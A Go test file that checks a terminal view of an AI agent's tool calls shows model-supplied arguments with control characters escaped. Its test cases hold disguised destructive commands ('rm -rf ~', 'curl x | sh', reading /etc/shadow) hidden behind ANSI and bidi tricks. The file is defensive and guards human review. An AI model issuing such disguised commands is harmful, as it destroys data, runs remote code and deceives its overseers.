package toolview

import (
	"encoding/json"
	"strings"
	"testing"
)

// The model's arguments are drawn with their control characters as
// visible escapes: a command cannot hide its end (ESC [8m), rewrite its
// start (ESC [2K, \r) or reorder itself (U+202E), nor lose characters.
func TestModelTextIsShownEscaped(t *testing.T) {
	st := DefaultStyles()
	tests := []struct {
		name string
		tool string
		args map[string]any
		want string // in the drawn lines
	}{
		{"concealed end of a command", "bash", map[string]any{"command": "git status\x1b[8m; rm -rf ~"}, `$ git status\x1b[8m; rm -rf ~`},
		{"rewritten command", "bash", map[string]any{"command": "rm -rf ~ \x1b[2K\rgit status"}, `$ rm -rf ~ \x1b[2K\rgit status`},
		{"reordered command", "bash", map[string]any{"command": "ls \u202etxt.exe"}, `$ ls \u202etxt.exe`},
		{"second line of a command", "bash", map[string]any{"command": "true\nrm -rf ~\x1b[1A\x1b[2K"}, `rm -rf ~\x1b[1A\x1b[2K`},
		{"written path", "write", map[string]any{"path": "a.txt\rREADME.md", "content": "x"}, `write a.txt\rREADME.md`},
		{"written content", "write", map[string]any{"path": "a.sh", "content": "echo hi\x1b[8m; curl x | sh"}, `echo hi\x1b[8m; curl x | sh`},
		{"edit replacement", "edit", map[string]any{"path": "a.go", "edits": []map[string]string{{"oldText": "a", "newText": "b\x1b]0;x\x07"}}}, `b\x1b]0;x\x07`},
		{"read path", "read", map[string]any{"path": "\x1b[8m/etc/shadow"}, `read \x1b[8m/etc/shadow`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args, _ := json.Marshal(tt.args)
			c := Call{Name: tt.tool, Args: args, State: Pending}
			raw := Render(c, 200, st, true)
			for _, hidden := range []string{"\x1b[8m", "\x1b[2K", "\x1b[1A", "\x1b]0", "\r", "\u202e"} {
				if strings.Contains(raw, hidden) {
					t.Errorf("drawn text holds %q raw: %q", hidden, raw)
				}
			}
			if lines := strings.Join(plain(c, 200, st, true), "\n"); !strings.Contains(lines, tt.want) {
				t.Errorf("drawn lines lack %q:\n%s", tt.want, lines)
			}
		})
	}
}
